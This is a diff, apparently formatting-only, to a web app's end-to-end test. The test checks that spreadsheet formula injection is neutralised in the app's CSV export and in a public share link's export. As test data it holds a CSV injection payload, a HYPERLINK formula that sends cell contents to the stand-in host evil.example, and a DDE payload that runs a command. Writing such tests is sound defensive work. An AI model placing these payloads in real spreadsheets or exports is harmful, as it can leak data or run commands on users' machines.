@@ -6,19 +6,43 @@ import { call, importReportOverHttp, pairExport, reportCopy } from "./security-h
  * spreadsheet formulas go out of both CSV exports (the app's and the public share link's) as text
  * that Excel shows instead of running.
  */
-test("cells that would run as formulas are neutralised in every CSV export, the public one too", async ({ browser }) => {
+test("cells that would run as formulas are neutralised in every CSV export, the public one too", async ({
+  browser,
+}) => {
   const analyst = await contextAs(browser, "analyst");
   const marker = `（CSV 注入测试 ${Date.now()}）`;
-  const planId = await importReportOverHttp(analyst.request, { name: "csv-2014.txt", buffer: reportCopy("hailar/hailar_2014.txt", marker) }, { region: "公式注入测试区", year: 2014, title: "2014年公式注入测试区政府工作报告" });
+  const planId = await importReportOverHttp(
+    analyst.request,
+    { name: "csv-2014.txt", buffer: reportCopy("hailar/hailar_2014.txt", marker) },
+    { region: "公式注入测试区", year: 2014, title: "2014年公式注入测试区政府工作报告" },
+  );
   const pledge = ((await pairExport(analyst.request, planId)).pledges as { id: string }[])[0];
   const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
-  const saved = await call(analyst.request, `/reports/${planId}/pledges/${pledge.id}`, "lib/assessments/actions.ts", "saveAssessmentAction", [
-    { pledgeId: pledge.id, version: 1, status: "partial", rationale: formula, reportedValue: "+1+cmd|' /C calc'!A0" },
-  ]);
+  const saved = await call(
+    analyst.request,
+    `/reports/${planId}/pledges/${pledge.id}`,
+    "lib/assessments/actions.ts",
+    "saveAssessmentAction",
+    [
+      {
+        pledgeId: pledge.id,
+        version: 1,
+        status: "partial",
+        rationale: formula,
+        reportedValue: "+1+cmd|' /C calc'!A0",
+      },
+    ],
+  );
   expect(saved).toMatchObject({ ok: true });
 
   const inApp = await (await analyst.request.get(`/audit/pair/${planId}/export?format=csv`)).text();
-  const share = await call(analyst.request, `/audit/pair/${planId}`, "lib/shares/actions.ts", "createShareLinkAction", [{ scope: "pair", subjectId: planId, expiresOn: null, showNotes: true }]);
+  const share = await call(
+    analyst.request,
+    `/audit/pair/${planId}`,
+    "lib/shares/actions.ts",
+    "createShareLinkAction",
+    [{ scope: "pair", subjectId: planId, expiresOn: null, showNotes: true }],
+  );
   const token = (share.data as { token: string }).token;
   const anonymous = await browser.newContext();
   const shared = await (await anonymous.request.get(`/share/${token}/export?format=csv`)).text();
